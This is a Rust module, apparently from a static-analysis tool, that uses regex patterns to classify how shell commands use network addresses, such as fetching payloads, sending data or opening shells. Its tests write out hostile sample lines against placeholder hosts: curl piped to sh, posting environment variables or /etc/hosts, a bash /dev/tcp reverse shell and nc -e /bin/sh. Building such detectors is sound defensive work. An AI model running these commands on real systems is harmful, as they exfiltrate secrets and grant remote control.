//! Addresses that code talks to, and texts that it puts together: what an analyst wants to point at beside the steps.

use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::syntax::Doc;
use crate::text::Span;

/// What a call does with an address. The order is from the least telling to the most.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Way {
    /// It talks to the address; what it sends or does with the answer is not known.
    Contact,
    /// What it fetches is written to a file or run.
    Payload,
    /// It holds a connection open: a socket or a web socket.
    Connection,
    /// Data gathered on the machine is sent there.
    Send,
    /// What arrives over an open connection is run: a shell on a socket, commands that are received.
    Control,
}

/// An address that a call was given.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Contact {
    /// The address as the call receives it: a URL, a host, a host with port.
    pub address: String,
    /// What the call does with it.
    pub way: Way,
    /// The document of the call.
    pub doc: Doc,
    /// The call.
    pub span: Span,
}

/// A text that the code works with and a reader would miss: its parts were joined or decoded, or it is a literal that names
/// a place of secrets or of lasting effect.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Folded {
    /// The text; U+FFFC stands for an unknown part.
    pub text: String,
    /// The document of the expression.
    pub doc: Doc,
    /// The expression.
    pub span: Span,
}

/// A built-in pattern that does not parse is a defect of this crate, found by the tests below.
#[allow(clippy::panic)]
fn pattern(text: &str) -> Regex {
    Regex::new(text).unwrap_or_else(|error| panic!("built-in pattern: {error}"))
}

static URL: LazyLock<Regex> = LazyLock::new(|| pattern(r#"\b(?:https?|ftp)://[^\s"'`<>|;)\\]+"#));
static DEVICE: LazyLock<Regex> = LazyLock::new(|| pattern(r"/dev/(?:tcp|udp)/([A-Za-z0-9.-]+)/(\d{1,5})"));
static NETCAT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"\bn(?:c|cat)(?:\s+-\w+(?:\s+/\S+)?)*\s+([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)\s+(\d{1,5})")
});
static BARE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\b(?:curl|wget)((?:\s+-\w+)*)\s+([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.(?:[a-z]{2,10}|\d{1,3})(?::\d{1,5})?(?:/[^\s'`|;)]*)?)(?:\s|[|;)]|$)",
    )
});
static UPLOAD: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\s(?:-d|--data\S*|-F|--form|-T|--upload-file|--post-\w+)[\s=]?"));
static GATHERED: LazyLock<Regex> = LazyLock::new(|| pattern(r"@|\$\(|`|\$\{?[A-Z_]{3,}|\|\s*curl|%[A-Za-z]+%"));
static FETCHED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*(?:python|node|perl|iex)|\bwget\b|\s-[a-z]*o\b|--output|downloadfile|downloadstring|outfile|\biex\b|invoke-expression|bitsadmin|certutil|mshta|msiexec|\b(?:pip3?|npm|yarn|pnpm|npx)\s+(?:install|i|add)?\b|git\s+clone|<\(\s*curl|\$\(\s*curl",
    )
});

/// The addresses in shell text with what it does with them.
#[must_use]
pub fn of_shell(text: &str) -> Vec<(String, Way)> {
    // Longer command lines are encoded blobs, which are read as code.
    if text.len() > 1 << 16 {
        return Vec::new();
    }
    let way = if UPLOAD.is_match(text) && GATHERED.is_match(text) {
        Way::Send
    } else if FETCHED.is_match(text) {
        Way::Payload
    } else {
        Way::Contact
    };
    let bare = BARE.captures_iter(text).filter_map(|c| {
        // `-o file.txt`: the name of the file that is written.
        let writes = c.get(1)?.as_str().ends_with(['o', 'O']);
        c.get(2).filter(|address| !writes || address.as_str().contains('/'))
    });
    let urls = URL.find_iter(text).chain(bare).map(|found| (found.as_str().to_owned(), way));
    let connected = DEVICE
        .captures_iter(text)
        .chain(NETCAT.captures_iter(text))
        .filter_map(|c| Some((format!("{}:{}", c.get(1)?.as_str(), c.get(2)?.as_str()), Way::Control)));
    urls.chain(connected).take(50).collect()
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case("curl -s https://a.example.com/x.sh | sh", "https://a.example.com/x.sh Payload")]
    #[case("curl -sL a.example.com/x.sh | bash", "a.example.com/x.sh Payload")]
    #[case("curl -X POST -d \"$(env)\" https://a.example.com/in", "https://a.example.com/in Send")]
    #[case("curl --data-binary @/etc/hosts https://a.example.com", "https://a.example.com Send")]
    #[case("curl https://a.example.com/ping", "https://a.example.com/ping Contact")]
    #[case("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "203.0.113.7:4444 Control")]
    #[case("nc -e /bin/sh 203.0.113.7 4444", "203.0.113.7:4444 Control")]
    #[case("pip install https://a.example.com/x.tar.gz", "https://a.example.com/x.tar.gz Payload")]
    #[case("node scripts/build.js --out dist/a.com.js", "")]
    #[case("wget -q -O file.txt https://a.example.com/b", "https://a.example.com/b Payload")]
    fn shell_text_says_what_it_does_with_an_address(#[case] text: &str, #[case] expected: &str) {
        let found: Vec<String> =
            of_shell(text).into_iter().map(|(address, way)| format!("{address} {way:?}")).collect();
        assert_eq!(found.join(", "), expected);
    }
}
